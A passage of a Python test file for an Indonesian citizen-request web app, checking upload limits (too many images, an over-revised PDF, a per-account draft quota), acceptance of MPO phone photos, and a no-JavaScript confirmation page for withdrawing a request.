    assert _error_of(html, "dok3") == ("scan3.png ditolak: Terlalu banyak gambar besar dalam satu kiriman: gambar "
                                       "ini belum diproses. Unggah lagi pada kiriman berikutnya.")
    assert 'id="draft-dok1"' in html and 'id="draft-dok2"' in html
    again = post_form(client, key, {"f_keperluan": "x"}, files={"berkas_dok3": (scan, "scan3.png")}, code="banyak")
    assert again.status_code == 200 and 'id="review"' in again.get_data(as_text=True)  # all three on file
    assert {a.requirement_code for a in db.session.scalars(select(RequestAttachment))} == {"dok1", "dok2", "dok3"}


def test_an_mpo_photo_from_a_phone_is_accepted_as_a_document(setup, client, login_as, parent, app):
    from tests.hostile_files import mpo_photo

    login_as(parent)
    key, _html = open_form(client)
    resp = post_form(client, key, {"f_keperluan": ""}, files={"berkas_ktp": (mpo_photo(), "IMG_0001.JPG")})
    html = resp.get_data(as_text=True)
    assert 'id="err-berkas_ktp"' not in html and 'id="draft-ktp"' in html
    [att] = db.session.scalars(select(RequestAttachment)).all()
    with Image.open(upload_dir(app) / att.stored_name) as img:
        assert img.format == "JPEG" and img.getpixel((10, 10))[0] > 200  # the first (orange) picture


def test_a_pdf_with_2000_revisions_is_refused_before_parsing(setup, client, login_as, parent, app):
    from tests.hostile_files import pdf_with_empty_updates

    login_as(parent)
    key, _html = open_form(client)
    hostile = pdf_with_empty_updates(pdf_bytes(), 2000)
    resp = post_form(client, key, {"f_keperluan": "Tetap tersimpan"}, files={"berkas_kk": (hostile, "kk.pdf")})
    html = resp.get_data(as_text=True)
    assert resp.status_code == 422
    assert _error_of(html, "kk").startswith("kk.pdf ditolak: PDF ini memuat 2001 lapis perubahan (revisi), paling "
                                            "banyak 50.")
    assert 'value="Tetap tersimpan"' in html and stored_files(app) == []


def _scan_pdf(seed: int) -> bytes:
    """A ~300 KB one-page PDF of a scan (noise does not compress)."""
    import random

    rng = random.Random(seed)
    img = Image.frombytes("RGB", (700, 700), rng.randbytes(700 * 700 * 3))
    buf = io.BytesIO()
    img.save(buf, "PDF")
    return buf.getvalue()


def test_draft_uploads_have_a_quota_per_account_that_sending_the_form_frees(setup, client, login_as, parent, app):
    """Forms opened again and again, never sent, cannot fill the disk: past DRAFT_UPLOAD_QUOTA_MB the
    upload is refused with what to do; replacing a file does not count it twice; sending a form frees it."""
    app.config["DRAFT_UPLOAD_QUOTA_MB"] = 1
    login_as(parent)
    first, _html = open_form(client)
    for code in ("kk", "ktp", "lain"):
        resp = post_form(client, first, {"f_keperluan": ""}, files={f"berkas_{code}": (_scan_pdf(1), f"{code}.pdf")})
        assert f'id="draft-{code}"' in resp.get_data(as_text=True)
    # a replacement of the same requirement is not counted on top of the file it replaces
    resp = post_form(client, first, {"f_keperluan": ""}, files={"berkas_lain": (_scan_pdf(2), "lain2.pdf")})
    assert 'id="err-berkas_lain"' not in resp.get_data(as_text=True)
    assert _count(RequestAttachment) == 3

    second, _html = open_form(client)
    resp = post_form(client, second, {"f_keperluan": "Tetap tersimpan"}, files={"berkas_kk": (_scan_pdf(3), "kk.pdf")})
    html = resp.get_data(as_text=True)
    assert resp.status_code == 422
    assert _error_of(html, "kk") == (
        "kk.pdf ditolak: Ruang berkas sementara akun ini penuh (paling banyak 1 MB berkas dari formulir yang "
        "belum dikirim). Kirim dulu permohonan yang sedang diisi; berkas dari formulir yang tidak dikirim "
        "dihapus otomatis setelah 2 hari.")
    assert 'value="Tetap tersimpan"' in html
    assert _count(RequestAttachment) == 3 and len(stored_files(app)) == 3

    sent = post_form(client, first, langkah="kirim")
    assert sent.status_code == 303
    resp = post_form(client, second, {"f_keperluan": ""}, files={"berkas_kk": (_scan_pdf(3), "kk.pdf")})
    assert 'id="draft-kk"' in resp.get_data(as_text=True)
    assert _count(RequestAttachment, RequestAttachment.request_id.is_(None)) == 1


def test_without_js_a_withdrawal_asks_on_a_page_of_its_own_first(setup, client, login_as, parent):
    """The detail page's button posts without ``yakin`` when no script added it: the question page comes back,
    nothing changes, and only its own "Ya, batalkan" (which carries ``yakin``) withdraws the request."""
    login_as(parent)
    req = _submitted(client)
    seen = req.version
    resp = client.post(f"/warga/permohonan/{req.tracking_number}/batal", data={"versi": seen})
    html = resp.get_data(as_text=True)
    assert resp.status_code == 200
    assert "<h1>Batalkan permohonan?</h1>" in html and req.tracking_number in html
    assert "tidak dapat diurungkan" in html
    assert re.search(r'<input type="hidden" name="yakin" value="1">', html)
    assert f'<input type="hidden" name="versi" value="{seen}">' in html
    assert f'href="/warga/permohonan/{req.tracking_number}">Tidak, kembali' in html
    assert "data-confirm" not in re.search(r"<main.*</main>", html, re.S).group(0)
    db.session.expire_all()
    assert req.status != RequestStatus.CANCELLED
    # a plain link (GET) shows the same question and changes nothing
    assert "<h1>Batalkan permohonan?</h1>" in client.get(f"/warga/permohonan/{req.tracking_number}/batal").get_data(
        as_text=True)
    db.session.expire_all()
    assert req.status != RequestStatus.CANCELLED

    resp = client.post(f"/warga/permohonan/{req.tracking_number}/batal", data={"versi": seen, "yakin": "1"})
    assert resp.status_code == 303
    db.session.expire_all()
    assert req.status == RequestStatus.CANCELLED
    # once withdrawn, the question is not asked again: back to the request with the refusal
    resp = client.get(f"/warga/permohonan/{req.tracking_number}/batal")
    assert resp.status_code == 303 and resp.location.endswith(f"/warga/permohonan/{req.tracking_number}")
